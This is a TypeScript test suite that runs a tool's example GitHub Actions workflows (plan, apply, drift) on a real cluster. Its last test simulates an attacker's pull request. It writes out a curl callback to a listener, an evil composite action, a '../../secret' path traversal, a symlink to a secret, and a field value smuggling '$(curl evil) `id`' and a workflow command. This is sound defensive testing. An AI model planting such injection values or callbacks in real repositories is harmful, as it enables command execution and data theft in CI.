/**
 * The workflows of `examples/github-actions`: checked by actionlint, and their steps run in order on
 * a real cluster, from a pull request to what runs on the nodes; an attacker's pull request, too.
 */
import { existsSync } from 'node:fs'
import {
  chmod,
  copyFile,
  cp,
  mkdir,
  mkdtemp,
  readFile,
  rm,
  symlink,
  writeFile,
} from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { execa } from 'execa'
import { afterAll, beforeEach, expect, it } from 'vitest'
import { startListener } from '../cli/listener.ts'
import { checkout, program } from '../cli/run-lockstep.ts'
import { makeScratchFolder } from '../cli/scratch-folder.ts'
import { ensureTool } from '../cluster/cache.ts'
import { renderSums } from '../cluster/example-sums.ts'
import { makeExampleStates } from '../cluster/example-states.ts'
import { describeReal, sharedCluster } from '../cluster/shared-cluster.ts'
import { makeTokens, type PipelineTokens } from '../examples/tokens.ts'
import { runOn } from '../real/run-on-cluster.ts'
import { type CodeHostServer, startGithub } from '../review/code-host-server.ts'
import { GithubRuns } from '../workflows/github-runs.ts'
import { type JobResult, runWorkflow, type Setting } from '../workflows/run-workflow.ts'

const examples = join(checkout, 'examples', 'github-actions')
const plugin = 'secret/team-kv'
const GITHUB_TOKEN = 'ghs_theTokenOfAJobThatIsNoClusterToken'
type Files = Readonly<Record<string, string>>

function desired(use: string, more: object = {}): string {
  const versions = Object.fromEntries(
    ['0.16.2', '0.21.0'].map((number) => [
      `v${number}`,
      {
        command: `secrets-kv-${number}`,
        sha256: { sums: 'SHA256SUMS' },
        data: { upgrade_from: '*', downgrade_to: '*' },
      },
    ]),
  )
  return JSON.stringify({ version: 1, plugins: { [plugin]: { use, versions } }, ...more }, null, 2)
}

function sumsText(): string {
  return renderSums(sharedCluster().description)
}

/** A repository with the workflows, `gh`, lockstep on the PATH, and what GitHub would keep. */
class Stand implements AsyncDisposable {
  readonly folder: string
  readonly github: CodeHostServer

  readonly runs: GithubRuns
  private readonly tokens: PipelineTokens

  private constructor(
    parts: Pick<Stand, 'folder' | 'github' | 'runs'> & { readonly tokens: PipelineTokens },
  ) {
    this.folder = parts.folder
    this.github = parts.github
    this.runs = parts.runs
    this.tokens = parts.tokens
  }

  static async start(): Promise<Stand> {
    await using file = await makeScratchFolder({
      'lockstep.yaml': desired('v0.21.0').replaceAll('SHA256SUMS', 'sums'),
      sums: sumsText(),
    })
    const github = await startGithub()
    const stand = new Stand({
      folder: await mkdtemp(join(tmpdir(), 'lockstep-stand-')),
      github,
      runs: await GithubRuns.describe(github.base),
      tokens: await makeTokens(sharedCluster(), join(file.path, 'lockstep.yaml')),
    })
    github.more = (_, path) => stand.runs.answer(path)
    const { folder } = stand
    for (const name of ['bin', 'home', 'artifacts', 'gh', 'work']) {
      await mkdir(join(folder, name), { recursive: true })
    }
    await copyFile(join(checkout, 'test', 'workflows', 'gh.sh'), join(folder, 'bin', 'gh'))
    // What `npm install --global` would do with the package.
    await writeFile(
      join(folder, 'bin', 'npm'),
      `#!/bin/sh\nprintf '#!/bin/sh\\nexec ${process.execPath} ${program} "$@"\\n' > ${folder}/bin/lockstep\nchmod +x ${folder}/bin/lockstep\n`,
    )
    for (const name of ['gh', 'npm']) await chmod(join(folder, 'bin', name), 0o755)
    await stand.git('init', '--quiet', '--initial-branch=main')
    await mkdir(join(folder, 'work', '.github', 'actions', 'lockstep'), { recursive: true })
    const action = await readFile(join(examples, 'action.yml'), 'utf8')
    // As it stands, but for the time between two readings.
    await writeFile(
      join(folder, 'work', '.github', 'actions', 'lockstep', 'action.yml'),
      action.replace('--after 20s', '--after 1s'),
    )
    await cp(join(examples, 'workflows'), join(folder, 'work', '.github', 'workflows'), {
      recursive: true,
    })
    await stand.commit({ 'lockstep.yaml': desired('v0.16.2'), SHA256SUMS: sumsText() })
    return stand
  }

  async git(...args: string[]): Promise<string> {
    const identity = ['-c', 'user.name=a', '-c', 'user.email=a@b']
    const { stdout } = await execa('git', [...identity, ...args], {
      cwd: join(this.folder, 'work'),
    })
    return stdout
  }

  async commit(files: Files): Promise<void> {
    for (const [path, text] of Object.entries(files)) {
      const target = join(this.folder, 'work', path)
      await rm(target, { force: true })
      await mkdir(dirname(target), { recursive: true })
      await writeFile(target, text)
    }
    await this.git('add', '--all')
    await this.git('commit', '--quiet', '--message', 'change')
  }

  /** Pull request 12, from main as it is now. `change` prepares what is committed. */
  async propose(
    files: Files,
    change: () => Promise<void> = () => Promise.resolve(),
  ): Promise<void> {
    await this.git('checkout', '--quiet', '-B', 'proposal', 'main')
    await change()
    await this.commit(files)
    const sha = await this.git('rev-parse', 'HEAD')
    this.runs.pull = { number: 12, head: sha }
    await this.git('checkout', '--quiet', '-B', 'merge', 'main')
    await this.git('merge', '--quiet', '--no-ff', '--no-edit', 'proposal')
    await this.git('update-ref', 'refs/pull/12/merge', 'HEAD')
    await this.git('checkout', '--quiet', 'main')
  }

  async run(
    workflow: 'plan' | 'apply' | 'drift',
    vars: Files = {},
  ): Promise<Readonly<Record<string, JobResult>>> {
    const { addresses, caCertificate, product } = sharedCluster()
    const { tokens } = this
    const event = join(this.folder, 'event.json')
    await writeFile(
      event,
      JSON.stringify(workflow === 'plan' ? { pull_request: { number: 12 } } : {}),
    )
    const sha = await this.git('rev-parse', 'main')
    const setting: Setting = {
      origin: join(this.folder, 'work', '.git'),
      ref: 'refs/heads/main',
      github: {
        token: GITHUB_TOKEN,
        repository: 'octo/app',
        event: { pull_request: { number: 12, head: { sha: this.runs.pull?.head } } },
      },
      vars: { BAO_ADDR: addresses[0] ?? '', LOCKSTEP_PACKAGE: 'lockstep@1.0.0', ...vars },
      secrets: {
        'lockstep-plan': { BAO_TOKEN: tokens.read },
        'lockstep-apply': { BAO_TOKEN: tokens.write },
      },
      artifacts: join(this.folder, 'artifacts'),
      env: {
        PATH: `${join(this.folder, 'bin')}:${process.env['PATH'] ?? ''}`,
        HOME: join(this.folder, 'home'),
        GH_STATE: join(this.folder, 'gh'),
        CI: 'true',
        GITHUB_ACTIONS: 'true',
        GITHUB_REPOSITORY: 'octo/app',
        GITHUB_API_URL: this.github.base,
        GITHUB_SHA: sha,
        GITHUB_EVENT_NAME: workflow === 'plan' ? 'pull_request_target' : 'push',
        GITHUB_EVENT_PATH: event,
        ...(caCertificate !== undefined && {
          [product === 'vault' ? 'VAULT_CACERT' : 'BAO_CACERT']: caCertificate,
        }),
      },
    }
    const path = join(this.folder, 'work', '.github', 'workflows', `lockstep-${workflow}.yml`)
    const results = await runWorkflow(path, setting)
    for (const { log } of Object.values(results)) {
      for (const secret of [tokens.read, tokens.write, GITHUB_TOKEN]) {
        expect(log).not.toContain(secret)
      }
    }
    const name = `lockstep-plan-${this.runs.pull?.head ?? ''}`
    const folder = join(this.folder, 'artifacts', name)
    if (workflow === 'plan' && existsSync(folder)) {
      const conclusion = results['comment']?.result === 'success' ? 'success' : 'failure'
      await this.runs.add({ event: 'pull_request_target', conclusion }, { name, folder })
    }
    return results
  }

  /**
   * Newer artifacts with the name of the reviewed plan that do not count: of a pull request's own
   * version of the workflow, of another workflow, of a run that commented nothing, an expired one.
   */
  async addForgedPlans(): Promise<void> {
    await using forged = await makeScratchFolder({ 'plan.json': '{"plan_id":"forged"}' })
    const artifact = { name: `lockstep-plan-${this.runs.pull?.head ?? ''}`, folder: forged.path }
    const good = { event: 'pull_request_target', conclusion: 'success' } as const
    await this.runs.add({ ...good, event: 'pull_request' }, artifact)
    await this.runs.add({ ...good, workflow: 7 }, artifact)
    await this.runs.add({ ...good, conclusion: 'failure' }, artifact)
    await this.runs.add(good, { ...artifact, isExpired: true })
    this.runs.pageSize = 1
  }

  told(name: string): Promise<string> {
    return readFile(join(this.folder, 'gh', name), 'utf8')
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.github[Symbol.asyncDispose]()
    await rm(this.folder, { recursive: true, force: true })
  }
}

function resultsOf(jobs: Readonly<Record<string, JobResult>>): Record<string, string> {
  return Object.fromEntries(Object.entries(jobs).map(([name, { result }]) => [name, result]))
}

async function isApplied(use: string): Promise<boolean> {
  const { stdout } = await runOn(sharedCluster(), ['status', '--json'])
  const { mounts } = JSON.parse(stdout) as {
    mounts: { plugin: string; configured_version: string }[]
  }
  return mounts
    .filter((mount) => mount.plugin === plugin)
    .every((mount) => mount.configured_version === use)
}

describeReal('the workflows', () => {
  beforeEach(async () => {
    await sharedCluster().reset()
    await makeExampleStates(sharedCluster(), [plugin])
  })
  afterAll(() => sharedCluster().reset())

  it('have no mistake that actionlint finds, and it finds one', async () => {
    await using stand = await Stand.start()
    const cwd = join(stand.folder, 'work')
    const lint = async () =>
      execa(await ensureTool('actionlint'), ['-no-color'], { cwd, reject: false })

    expect(await lint()).toMatchObject({ exitCode: 0, stdout: '' })

    const path = join(cwd, '.github', 'workflows', 'lockstep-apply.yml')
    await writeFile(path, (await readFile(path, 'utf8')).replace('command: apply', 'comand: apply'))
    expect((await lint()).stdout).toContain('input "comand" is not defined')
  })

  it('plan a pull request, comment, and apply exactly the reviewed plan after the merge', async () => {
    await using stand = await Stand.start()
    await stand.propose({ 'lockstep.yaml': desired('v0.21.0') })

    const planned = await stand.run('plan')
    expect(resultsOf(planned), planned['plan']?.log).toEqual({
      plan: 'success',
      comment: 'success',
    })
    const [comment] = stand.github.comments
    expect(comment?.body).toContain('upgrades 3 mounts on 3 nodes')
    expect(comment?.body).toContain('#### Compared with `HEAD^1')
    expect(stand.github.mistakes()).toEqual([])
    expect(planned['plan']?.log).toContain('upgrades 3 mounts on 3 nodes')

    await stand.git('merge', '--quiet', 'merge')
    await stand.addForgedPlans()
    const applied = await stand.run('apply')
    expect(stand.github.mistakes()).toEqual([])
    expect(resultsOf(applied), applied['plan']?.log).toEqual({
      plan: 'success',
      apply: 'success',
      refuse: 'skipped',
    })
    expect(applied['apply']?.log).toContain('Apply complete.')
    expect(comment?.body).toContain(applied['plan']?.outputs['plan_id'])
    expect(await isApplied('v0.21.0')).toBe(true)

    // Nothing is left to do: no comment is begun, and nothing is applied.
    const again = await stand.run('plan')
    expect(again['plan']?.outputs).toEqual({})
    expect(stand.github.comments).toHaveLength(1)
    expect(comment?.body).toContain('no changes')
  })

  it('refuse a merged plan that is not the reviewed one, and say how it differs', async () => {
    await using stand = await Stand.start()
    const held = { mounts: { 'gamma/': { plugin, use: 'v0.16.2', because: 'not yet' } } }
    await stand.propose({ 'lockstep.yaml': desired('v0.21.0', held) })
    await stand.run('plan')
    await stand.git('merge', '--quiet', 'merge')
    await stand.commit({ 'lockstep.yaml': desired('v0.21.0') })

    const jobs = await stand.run('apply')

    expect(resultsOf(jobs)).toEqual({ plan: 'success', apply: 'skipped', refuse: 'failure' })
    const comment = await stand.told('comment.md')
    expect(comment).toMatch(/^\*\*Not applied: /)
    expect(comment).toMatch(/^ {4}\+.*tune gamma\/ to v0\.21\.0/m)
    // A commit that no pull request brought, and one whose plan nobody commented, are not applied.
    stand.runs.pull = { number: 12, head: 'f'.repeat(40) }
    const unplanned = await stand.run('apply')
    stand.runs.pull = undefined
    const direct = await stand.run('apply')
    for (const one of [unplanned, direct]) {
      expect(resultsOf(one)).toEqual({ plan: 'failure', apply: 'skipped', refuse: 'skipped' })
    }
    expect(unplanned['plan']!.log).toContain('of pull request 12 was found')
    expect(direct['plan']!.log).toContain('came with no pull request')
    expect(stand.github.mistakes()).toEqual([])
    // All of it is code.
    expect(
      comment
        .split('\n')
        .slice(2)
        .filter((line) => line !== '' && !line.startsWith('    ')),
    ).toEqual([])
    expect(await isApplied('v0.16.2')).toBe(true)
  })

  it('open one issue for drift, update it, and close it', async () => {
    await using stand = await Stand.start()
    const calls = async (): Promise<string[]> =>
      (await stand.told('calls').catch(() => ''))
        .split('\n')
        .filter((call) => /^issue (create|edit|close)/.test(call))
        .map((call) => call.split(' ')[1]!)

    const file = join(stand.folder, 'work', 'lockstep.yaml')
    await runOn(sharedCluster(), ['apply', '--auto-approve', '-f', file])

    await stand.run('drift')
    expect(await calls()).toEqual([])

    await stand.commit({ 'lockstep.yaml': desired('v0.21.0') })
    const found = await stand.run('drift')
    expect(resultsOf(found), found['drift']?.log).toEqual({ drift: 'success', issue: 'success' })
    await stand.run('drift')
    expect(await calls()).toEqual(['create', 'edit'])
    expect(await stand.told('issue.md')).toMatch(/^- \*\*version-differs\*\* .*`alpha\/`/m)

    await stand.commit({ 'lockstep.yaml': desired('v0.16.2') })
    await stand.run('drift')
    await stand.run('drift')
    expect(await calls()).toEqual(['create', 'edit', 'close'])
  })

  it('send nothing to the host of an attacker, run nothing of theirs, and read nothing outside', async () => {
    await using stand = await Stand.start()
    await using sink = await startListener()
    const marker = join(stand.folder, 'ran')
    const run = ['sh', '-c', `touch ${marker}; curl ${sink.address}/{command}`]
    const evil = `name: evil\ninputs: { command: {}, directory: {}, against: {}, package: {} }\noutputs: {}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: touch ${marker}; curl ${sink.address}\n`
    const secret = join(stand.folder, 'secret')
    await writeFile(secret, 'a secret of the machine\n')
    const { addresses } = sharedCluster()
    const proposals: Record<string, Files> = {
      address: { 'lockstep.yaml': desired('v0.21.0', { cluster: { address: sink.address } }) },
      nodes: {
        'lockstep.yaml': desired('v0.21.0', { cluster: { nodes: [...addresses, sink.address] } }),
      },
      commands: {
        'lockstep.yaml': desired('v0.21.0', {
          cluster: { binary_check: run },
          mounts: { 'alpha/': { plugin, verify: [{ run }] } },
        }),
      },
      action: {
        'lockstep.yaml': desired('v0.21.0'),
        '.github/actions/lockstep/action.yml': evil,
        '.github/workflows/lockstep-plan.yml': 'on: pull_request\n',
      },
      outside: {
        'lockstep.yaml': desired('v0.21.0').replaceAll('SHA256SUMS', '../../secret'),
      },
      'a name that is a command': {
        'lockstep.yaml': desired('v0.21.0', {
          mounts: {
            'alpha/': {
              plugin,
              use: 'v0.16.2',
              because: '$(curl evil) `id`\n::set-output name=x::y',
            },
          },
        }),
      },
    }

    const results: Record<string, string> = {}
    for (const [name, files] of Object.entries(proposals)) {
      await stand.propose(files)
      const jobs = await stand.run('plan')
      results[name] = jobs['plan']!.result
      expect(jobs['plan']!.log, name).not.toContain('a secret of the machine')
      expect(jobs['plan']!.log, name).not.toMatch(/^::set-output/m)
    }
    await stand.propose({}, async () => {
      await rm(join(stand.folder, 'work', 'lockstep.yaml'))
      await symlink(secret, join(stand.folder, 'work', 'lockstep.yaml'))
    })
    const linked = await stand.run('plan')
    expect(linked['plan']).toMatchObject({ result: 'failure' })
    expect(linked['plan']!.log).toContain('lies outside')

    expect(results).toEqual({
      address: 'failure',
      nodes: 'failure',
      commands: 'success',
      action: 'success',
      outside: 'failure',
      'a name that is a command': 'success',
    })
    expect(sink.connections()).toBe(0)
    expect(existsSync(marker)).toBe(false)
    expect(await isApplied('v0.16.2')).toBe(true)
  })
})
